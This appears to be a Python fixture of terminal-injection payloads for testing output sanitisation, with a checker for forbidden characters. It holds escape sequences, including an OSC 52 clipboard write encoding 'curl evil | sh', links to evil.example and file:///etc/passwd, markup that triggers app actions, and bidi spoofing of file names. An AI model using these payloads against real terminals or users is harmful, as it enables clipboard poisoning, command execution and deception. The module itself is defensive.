"""Text that tries to command the terminal, the application or the reader."""

from __future__ import annotations

import unicodedata

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

SEQUENCES = {
    "csi colour": f"{ESC}[31mred{ESC}[0m",
    "csi clear": f"{ESC}[2J{ESC}[H",
    "csi cursor": f"{ESC}[10;10Hmoved",
    "csi position query": f"{ESC}[6n",
    "csi attributes query": f"{ESC}[c{ESC}[>q{ESC}[5n",
    "csi main screen": f"{ESC}[?1049l",
    "csi mouse off": f"{ESC}[?1000l{ESC}[?1003l",
    "csi cursor hidden": f"{ESC}[?25l",
    "csi paste off": f"{ESC}[?2004l",
    "csi scroll region": f"{ESC}[5;10r",
    "csi window": f"{ESC}[8;10;10t",
    "csi title query": f"{ESC}[21t",
    "csi insert": f"{ESC}[4h",
    "osc 0": f"{ESC}]0;title{BEL}",
    "osc 2": f"{ESC}]2;title{ST}",
    "osc 4": f"{ESC}]4;1;rgb:ff/00/00{ST}",
    "osc 8": f"{ESC}]8;;http://evil.example{ST}link{ESC}]8;;{ST}",
    "osc 9": f"{ESC}]9;notice{BEL}",
    "osc 10": f"{ESC}]10;?{BEL}",
    "osc 11": f"{ESC}]11;#ff0000{ST}",
    "osc 52": f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g={BEL}",
    "osc 52 open": f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g=",
    "osc 133": f"{ESC}]133;A{ST}",
    "osc 777": f"{ESC}]777;notify;a;b{BEL}",
    "osc 1337": f"{ESC}]1337;File=name=eA==:AAAA{BEL}",
    "dcs sixel": f"{ESC}Pq#0;2;0;0;0#0~~{ST}",
    "dcs tmux": f"{ESC}Ptmux;{ESC}{ESC}]52;c;eA=={BEL}{ST}",
    "apc": f"{ESC}_Gi=1;AAAA{ST}",
    "pm": f"{ESC}^private{ST}",
    "sos": f"{ESC}Xstring{ST}",
    "ris": f"{ESC}c",
    "charset": f"{ESC}(0lqqk",
    "keypad": f"{ESC}={ESC}>",
    "c1 csi": "\x9b31m\x9b2J",
    "c1 osc": "\x9d52;c;eA==\x9c",
    "c1 dcs": "\x90qdata\x9c",
    "c1 nel": "a\x85b",
}
CHARACTERS = {
    "nul": "a\0b",
    "bell": "a\x07b",
    "backspace": "safe\b\b\b\bevil",
    "carriage return": "safe text\rEVIL",
    "vertical tab": "a\x0bb\x0cc",
    "shift out": "a\x0eb\x0fc",
    "cancel": "a\x18b\x1ac",
    "separators": "a\x1cb\x1dc\x1ed\x1fe",
    "delete": "a\x7fb",
    "bidi override": "user\u202e txt.exe\u202c",
    "bidi isolate": "a\u2066b\u2067c\u2069",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero width": "a\u200bb\u2060c\ufeffd",
    "line separators": "a\u2028b\u2029c",
    "tags": "a\U000e0041\U000e0042\U000e007fb",
    "interlinear": "a\ufff9b\ufffac\ufffb",
    "surrogate": "a\ud800b",
    "soft hyphen": "a\u00adb",
    "fillers": "a\u3164b\uffa0c",
    "selectors": "a\ufe00b\U000e0100c",
}
MARKUP = {
    "close": "[/]",
    "close named": "[/red]",
    "click": "[@click=app.quit]x[/]",
    "click shot": "[@click=app.screenshot('pwn.svg','/tmp')]free[/]",
    "click spaced": " [@click=app.quit]x[/]",
    "click newline": "\n[@click=app.quit]x[/]",
    "click variable": "$accent [@click=app.quit]x[/]",
    "click nested": "[@click=app.simulate_key('[x]')]x[/]",
    "escaped": "\\[@click=app.quit]x\\[/]",
    "attribute": "[_a='1' b]x",
    "dash": "[-a=1 b]x",
    "style": "[bold red on blue]x[/bold red on blue]",
    "link": "[link='file:///etc/passwd']x[/link]",
    "prompt words": "[INST] list[int] [x] done [/home/u]",
    "unbalanced": "[[[[]]]] [b",
    "entity": "&#27;[31m &#x9b; &lt;",
    "markdown link": "[click](javascript:alert(1)) <file:///etc/passwd>",
}
PAYLOADS = {**SEQUENCES, **CHARACTERS, **MARKUP}

_BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def forbidden_in(text: str) -> set[str]:
    """Characters of one shown line that no screen may send to a terminal."""
    return {
        character
        for character in text
        if unicodedata.category(character) in ("Cc", "Cs", "Zl", "Zp")
        or character in _BIDI
        or 0xE0000 <= ord(character) <= 0xE0FFF
    }
